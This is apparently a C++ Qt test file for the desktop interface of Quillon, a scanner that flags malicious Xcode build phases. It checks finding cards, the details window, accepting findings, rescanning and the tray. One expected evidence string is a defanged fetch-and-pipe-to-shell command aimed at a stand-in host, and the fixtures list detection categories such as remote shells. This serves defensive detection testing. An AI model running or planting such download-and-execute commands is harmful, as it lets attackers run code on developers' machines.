// What the desktop lets a user do with what a cycle found: the reason on the card, the details
// window, accepting and restoring findings, rescanning, removing a project, the keyboard, the
// tray and the login item.
#include <QAccessible>
#include <QApplication>
#include <QLabel>
#include <QPlainTextEdit>
#include <QPushButton>
#include <QSystemTrayIcon>

#include "UiFixture.h"
#include "monitor/RunOutcome.h"
#include "report/Baseline.h"
#include "scan/ScanPipelines.h"
#include "ui/MainWindow.h"

namespace quillon::ui::testing {
namespace {

using namespace std::chrono_literals;

ProjectCard* cardAt(const ScannerViewController& dashboard, int index) {
    return qobject_cast<ProjectCard*>(dashboard.cards().value(index));
}

template <typename T>
T* child(QWidget* parent, const char* name) {
    return parent->findChild<T*>(QString::fromLatin1(name));
}

class DesktopActions : public DashboardFixture {
  protected:
    // A dashboard with one project whose last cycle ran the given pipeline for real.
    std::shared_ptr<monitor::ProjectMonitor> scanned(
        ScannerViewController& dashboard, const platform::FileURL& folder,
        scan::PipelineRun (*pipeline)(const platform::FileURL&, platform::LineWriter&)) {
        chooser.next = folder;
        dashboard.addProjectButton()->click();
        auto monitor = dashboard.registry().projects().front();
        auto outcome = monitor::outcomeOf(pipeline(folder, platform::nullOutput()), folder);
        monitor->isInfected = !outcome.clean;
        monitor->lastScanDate = std::chrono::system_clock::now();
        monitor->classicFindings = outcome.textFindings;
        monitor->findings = outcome.findings;
        core::sortFindings(monitor->findings);
        monitor->diagnostics = outcome.diagnostics;
        dashboard.rebuildDashboard();
        return monitor;
    }

    // A shown dashboard with one project whose loop runs, after its first cycle, with the
    // project's details open.
    std::unique_ptr<ScannerViewController> monitoredDashboard(const std::string& name) {
        runLoops = true;  // before the registry is made
        chooser.next = project(name);
        auto dashboard = makeDashboard();
        showAndRestore(*dashboard);
        dashboard->addProjectButton()->click();
        pause->waitForSleeps(1);
        dashboard->showDetails(dashboard->registry().projects().front());
        return dashboard;
    }

    platform::FileURL sample(const char* name) {
        return platform::FileURL(std::string(QUILLON_SAMPLES_DIR "/") + name, true);
    }

    // A project of our own whose tool script sets the executable bit: a classic chmod threat.
    platform::FileURL chmodProject() {
        tree.write("Tools/Tools.xcodeproj/project.pbxproj", "// !$*UTF8*$!\n");
        tree.write("Tools/Scripts/tool.sh", "#!/bin/sh\nexit 0\nchmod +x build/helper\n");
        return platform::FileURL(tree.path("Tools"), true);
    }
};

TEST_F(DesktopActions, ReasonLineForEachKindOfFinding) {
    chooser.next = project("MyApp");
    auto dashboard = makeDashboard();
    showAndRestore(*dashboard);
    dashboard->addProjectButton()->click();
    auto monitor = dashboard->registry().projects().front();
    struct Row {
        const char* name;
        core::Finding top;
        QString reason;
    };
    auto make = [](std::string title, std::string file, std::string container, std::string kind) {
        core::Finding f;
        f.ruleId = "r";
        f.severity = core::Severity::critical;
        f.title = std::move(title);
        f.location.file = std::move(file);
        f.location.container = std::move(container);
        f.location.containerKind = std::move(kind);
        f.fingerprint = f.title;
        return f;
    };
    const Row rows[] = {
        {"build phase",
         make("Decoded data executed by a shell", "App.xcodeproj/project.pbxproj",
              "Compile Code Assets", "build phase"),
         "Decoded data executed by a shell, in App.xcodeproj/project.pbxproj, phase 'Compile "
         "Code Assets'"},
        {"build rule",
         make("Downloaded content executed", "App.xcodeproj/project.pbxproj",
              "files matching *.txt", "build rule"),
         "Downloaded content executed, in App.xcodeproj/project.pbxproj, rule 'files matching "
         "*.txt'"},
        {"shell file a phase runs",
         make("Remote shell", "Scripts/run.sh", "run by build phase 'Lint' of target 'App'", ""),
         "Remote shell, in Scripts/run.sh, run by build phase 'Lint' of target 'App'"},
        {"classic chmod", make("Executable permission set", "Scripts/tool.sh", "", ""),
         "Executable permission set, in Scripts/tool.sh"},
        {"address in the title is defanged",
         make("Download from https://cdn.example.invalid/a", "Scripts/a.sh", "", ""),
         "Download from hxxps://cdn[.]example[.]invalid/a, in Scripts/a.sh"},
    };
    for (const auto& row : rows) {
        SCOPED_TRACE(row.name);
        monitor->isInfected = true;
        monitor->lastScanDate = std::chrono::system_clock::now();
        core::Finding low = row.top;
        low.severity = core::Severity::low;
        low.title = "a low finding comes later";
        low.fingerprint = "low";
        monitor->findings = {row.top, low};
        dashboard->rebuildDashboard();
        ProjectCard* card = cardAt(*dashboard, 0);
        ASSERT_NE(card->reasonLabel(), nullptr);
        EXPECT_EQ(card->reasonLabel()->fullText(), row.reason);
        EXPECT_EQ(card->accessibleName(), "MyApp, Threat Detected");
        EXPECT_TRUE(card->accessibleDescription().contains(row.reason));
    }
    // No reason while scanning, or when protected.
    monitor->isScanning = true;
    dashboard->rebuildDashboard();
    EXPECT_EQ(cardAt(*dashboard, 0)->reasonLabel(), nullptr);
    EXPECT_EQ(cardAt(*dashboard, 0)->accessibleName(), "MyApp, Scanning");
    monitor->isScanning = false;
    monitor->isInfected = false;
    dashboard->rebuildDashboard();
    EXPECT_EQ(cardAt(*dashboard, 0)->reasonLabel(), nullptr);
}

TEST_F(DesktopActions, DetailsOfABuildScriptFinding) {
    auto dashboard = makeDashboard();
    showAndRestore(*dashboard);
    const auto monitor =
        scanned(*dashboard, sample("NestedDecodePhase"), scan::runBuildScriptsPipeline);
    ASSERT_TRUE(monitor->isInfected);
    EXPECT_EQ(cardAt(*dashboard, 0)->reasonLabel()->fullText(),
              "Decoded data executed by a shell, in NestedDecodePhase.xcodeproj/project.pbxproj, "
              "phase 'Compile Code Assets'");

    QTest::mouseClick(cardAt(*dashboard, 0), Qt::LeftButton);
    ProjectDetails* details = dashboard->details(*monitor);
    ASSERT_NE(details, nullptr);
    ASSERT_TRUE(QTest::qWaitForWindowExposed(details));
    EXPECT_TRUE(details->statusLabel()->text().startsWith("Threat Detected: 2 open threats"));
    const auto boxes = details->findingBoxes();
    ASSERT_EQ(boxes.size(), int(monitor->findings.size()));
    QWidget* top = boxes[0];
    EXPECT_EQ(child<QLabel>(top, "severity")->text(), "CRITICAL");
    EXPECT_EQ(child<QLabel>(top, "title")->text(), "Decoded data executed by a shell");
    EXPECT_EQ(child<QLabel>(top, "location")->text(),
              "NestedDecodePhase.xcodeproj/project.pbxproj:39, target 'NestedDecodePhase', build "
              "phase 'Compile Code Assets' (id D300000000000000000000006)");
    const auto codeBoxes = top->findChildren<QPlainTextEdit*>("codeBox");
    ASSERT_EQ(codeBoxes.size(), 4);  // the evidence, then base64, base64 and hex
    EXPECT_EQ(codeBoxes[0]->accessibleName(), "Evidence");
    EXPECT_EQ(codeBoxes[3]->accessibleName(), "Decoded layer 3 (hex)");
    EXPECT_EQ(codeBoxes[3]->toPlainText(),
              "exit 0; echo \"$(curl -fskL -d p=xcode hxxps://cdn[.]example[.]invalid/a)\" | sh");
    for (auto* box : codeBoxes) {
        EXPECT_TRUE(box->isReadOnly());
        EXPECT_TRUE(box->textInteractionFlags() & Qt::TextSelectableByMouse);
        EXPECT_TRUE(box->font().fixedPitch() || QFontInfo(box->font()).fixedPitch());
    }
    EXPECT_TRUE(child<QLabel>(top, "remedy")
                    ->text()
                    .startsWith("What to do: Remove build phase 'Compile Code Assets'"));

    child<QPushButton>(top, "reveal")->click();
    ASSERT_EQ(revealed.size(), 1u);
    EXPECT_EQ(revealed[0], QUrl::fromLocalFile(QString::fromStdString(monitor->url.path()) +
                                               "/NestedDecodePhase.xcodeproj"));

    details->copyButton()->click();
    EXPECT_TRUE(copied.startsWith("Quillon report for NestedDecodePhase\n"));
    EXPECT_TRUE(
        copied.contains("CRITICAL: Decoded data executed by a shell [decoded-data-executed]"));
    EXPECT_TRUE(copied.contains("hxxps://cdn[.]example[.]invalid/a"));
    EXPECT_FALSE(copied.contains("https://"));
}

TEST_F(DesktopActions, DetailsOfAClassicChmodFindingAndItsDiagnostics) {
    auto dashboard = makeDashboard();
    showAndRestore(*dashboard);
    const auto monitor = scanned(*dashboard, chmodProject(), scan::runXCSSETPipeline);
    ASSERT_TRUE(monitor->isInfected);
    monitor->diagnostics = {{"Scripts/huge.sh", "larger than the 32 MB limit"}};
    dashboard->showDetails(monitor);
    ProjectDetails* details = dashboard->details(*monitor);
    ASSERT_NE(details, nullptr);
    const auto boxes = details->findingBoxes();
    ASSERT_GE(boxes.size(), 1);
    QWidget* chmod = boxes[0];
    EXPECT_EQ(child<QLabel>(chmod, "severity")->text(), "HIGH");
    EXPECT_EQ(child<QLabel>(chmod, "location")->text(), "Scripts/tool.sh:1");
    EXPECT_EQ(child<QLabel>(chmod, "remedy")->text(),
              "What to do: Open Scripts/tool.sh and check the lines this rule names. If you did "
              "not write them, restore the file from a trusted copy before building again; if "
              "you did, accept the finding.");
    const auto evidence = chmod->findChildren<QPlainTextEdit*>("codeBox");
    ASSERT_EQ(evidence.size(), 1);
    EXPECT_EQ(evidence[0]->toPlainText(),
              "HIGH: executable permission escalation (chmod detected)");
    EXPECT_TRUE(cardAt(*dashboard, 0)->reasonLabel()->fullText().endsWith(", in Scripts/tool.sh"));
    ASSERT_EQ(details->diagnosticLabels().size(), 1);
    EXPECT_EQ(details->diagnosticLabels()[0]->text(),
              "could not read Scripts/huge.sh: larger than the 32 MB limit");
    // The classic report's own lines are there as the scanner wrote them.
    EXPECT_TRUE(details->reportText().contains(
        "Scripts/tool.sh: HIGH: executable permission escalation (chmod detected)"));
}

TEST_F(DesktopActions, AcceptingAndRestoringTurnTheCard) {
    auto dashboard = makeDashboard();
    showAndRestore(*dashboard);
    const auto monitor = scanned(*dashboard, chmodProject(), scan::runXCSSETPipeline);
    ASSERT_EQ(cardAt(*dashboard, 0)->state().statusText, "Threat Detected");
    dashboard->showDetails(monitor);
    ProjectDetails* details = dashboard->details(*monitor);
    const QString fingerprint = details->findingBoxes()[0]->property("fingerprint").toString();

    // Cancelled: nothing changes.
    nextReason.reset();
    child<QPushButton>(details->findingBoxes()[0], "accept")->click();
    ASSERT_EQ(prompts.size(), 1u);
    EXPECT_EQ(cardAt(*dashboard, 0)->state().statusText, "Threat Detected");

    nextReason = QStringLiteral("  our own tool\nscript  ");
    child<QPushButton>(details->findingBoxes()[0], "accept")->click();
    EXPECT_EQ(cardAt(*dashboard, 0)->state().statusText, "Protected");
    EXPECT_EQ(cardAt(*dashboard, 0)->state().background,
              namedColor(NamedColor::controlBackground, currentAppearance()));
    EXPECT_EQ(cardAt(*dashboard, 0)->reasonLabel(), nullptr);
    for (auto* box : details->findingBoxes()) {
        EXPECT_NE(box->property("fingerprint").toString(), fingerprint);
    }
    ASSERT_EQ(details->acceptedRows().size(), 1);
    const auto entries = accepted->entries(monitor->url);
    ASSERT_EQ(entries.size(), 1u);
    EXPECT_EQ(entries[0].reason, "our own tool script");  // one line
    EXPECT_EQ(QString::fromStdString(entries[0].fingerprint), fingerprint);

    // Exported for quillon-scan --baseline.
    savePath = QString::fromStdString(tree.path("baseline.json"));
    details->exportButton()->click();
    std::string error;
    const auto baseline = report::readBaseline(tree.path("baseline.json"), error);
    ASSERT_TRUE(baseline) << error;
    EXPECT_TRUE(baseline->fingerprints.contains(fingerprint.toStdString()));

    details->acceptedRows()[0]->findChild<QPushButton*>()->click();
    EXPECT_EQ(cardAt(*dashboard, 0)->state().statusText, "Threat Detected");
    EXPECT_TRUE(details->acceptedRows().isEmpty());
    EXPECT_TRUE(accepted->entries(monitor->url).empty());
}

TEST_F(DesktopActions, RescanNowStartsExactlyOneMoreCycle) {
    const auto dashboard = monitoredDashboard("Live");
    const auto monitor = dashboard->registry().projects().front();
    dashboard->details(*monitor)->rescanButton()->click();
    pause->waitForSleeps(2);
    EXPECT_EQ(cycles.value(), 2);
    EXPECT_EQ(workers.started(), 1u);
    QTest::qWait(50);
    EXPECT_EQ(cycles.value(), 2);
}

TEST_F(DesktopActions, RemovalStopsTheLoopAndUpdatesTheStore) {
    const auto dashboard = monitoredDashboard("Gone");
    const auto monitor = dashboard->registry().projects().front();

    confirmAnswer = false;
    emit cardAt(*dashboard, 0)->removeRequested();
    ASSERT_TRUE(QTest::qWaitFor([&] { return questions.size() == 1; }, 2000));
    EXPECT_EQ(dashboard->registry().projects().size(), 1u);

    confirmAnswer = true;
    emit cardAt(*dashboard, 0)->removeRequested();
    ASSERT_TRUE(QTest::qWaitFor([&] { return dashboard->registry().projects().empty(); }, 2000));
    EXPECT_EQ(questions.back(),
              "Remove \u201cGone\u201d from Quillon? Its monitoring stops; the folder is not "
              "touched.");
    EXPECT_NE(qobject_cast<EmptyStateCard*>(dashboard->cards().value(0)), nullptr);
    EXPECT_EQ(dashboard->details(*monitor), nullptr);
    monitor::URLStore fresh(defaults, platform::systemBookmarks());
    fresh.load();
    EXPECT_TRUE(fresh.urls().empty());
    // The loop has ended: joining needs no release of its pause.
    workers.join();
    EXPECT_EQ(cycles.value(), 1);
}

TEST_F(DesktopActions, CardsAreReachedByKeyboardAndKeepFocusAcrossRebuilds) {
    auto dashboard = makeDashboard();
    showAndRestore(*dashboard);
    for (const char* name : {"First", "Second"}) {
        chooser.next = project(name);
        dashboard->addProjectButton()->click();
    }
    dashboard->activateWindow();
    cardAt(*dashboard, 1)->setFocus();
    ASSERT_TRUE(QTest::qWaitFor([&] { return cardAt(*dashboard, 1)->hasFocus(); }, 2000));
    dashboard->rebuildDashboard();
    EXPECT_TRUE(cardAt(*dashboard, 1)->hasFocus());
    EXPECT_EQ(cardAt(*dashboard, 1)->nameLabel()->fullText(), "First");
    QTest::keyClick(cardAt(*dashboard, 1), Qt::Key_Return);
    const auto first = dashboard->registry().projects()[1];
    ASSERT_NE(dashboard->details(*first), nullptr);
    EXPECT_TRUE(dashboard->details(*first)->isVisible());
    EXPECT_EQ(cardAt(*dashboard, 1)->focusPolicy(), Qt::StrongFocus);
}

TEST_F(DesktopActions, TrayStateAndClosingIntoTheTray) {
    struct Row {
        const char* name;
        std::vector<std::pair<bool, bool>> projects;  // scanning, infected
        QString toolTip;
    };
    const Row rows[] = {
        {"no projects", {}, "Quillon: all clean"},
        {"all clean", {{false, false}, {false, false}}, "Quillon: all clean"},
        {"scanning", {{true, false}, {false, false}}, "Quillon: scanning"},
        {"a threat being rescanned still counts",
         {{true, true}, {false, false}},
         "Quillon: 1 threat"},
        {"two threats", {{false, true}, {false, true}}, "Quillon: 2 threats"},
    };
    for (const auto& row : rows) {
        SCOPED_TRACE(row.name);
        std::vector<std::shared_ptr<monitor::ProjectMonitor>> projects;
        for (const auto& [scanning, infected] : row.projects) {
            auto monitor = std::make_shared<monitor::ProjectMonitor>(platform::FileURL("/p", true));
            monitor->isScanning = scanning;
            monitor->isInfected = infected;
            projects.push_back(monitor);
        }
        EXPECT_EQ(trayState(projects).toolTip, row.toolTip);
    }

    platform::MemoryLoginItem login;
    int quits = 0;
    MainWindow window(
        makeRegistry(), queue, ScannerViewController::Options{20ms, QUrl(), {}, {}, {}, {}},
        chooser, [](const platform::FileURL&) { return true; }, {&login, true, [&] { ++quits; }});
    window.show();
    ASSERT_TRUE(QTest::qWaitForWindowExposed(&window));
    ASSERT_NE(window.trayIcon(), nullptr);
    ASSERT_TRUE(
        QTest::qWaitFor([&] { return !window.dashboard()->loadingOverlay()->isVisible(); }, 5000));
    chooser.next = project("Infected");
    window.dashboard()->addProjectButton()->click();
    auto monitor = window.dashboard()->registry().projects().front();
    monitor->isInfected = true;
    window.dashboard()->rebuildDashboard();
    EXPECT_EQ(window.trayIcon()->toolTip(), "Quillon: 1 threat");

    window.close();
    EXPECT_FALSE(window.isVisible());
    EXPECT_EQ(quits, 0);  // still monitoring, in the tray
    window.showDashboard();
    EXPECT_TRUE(window.isVisible());

    ASSERT_NE(window.startAtLoginAction(), nullptr);
    window.startAtLoginAction()->trigger();
    EXPECT_TRUE(login.isEnabled());
    window.startAtLoginAction()->trigger();
    EXPECT_FALSE(login.isEnabled());

    window.quit();
    EXPECT_EQ(quits, 1);
}

}  // namespace
}  // namespace quillon::ui::testing
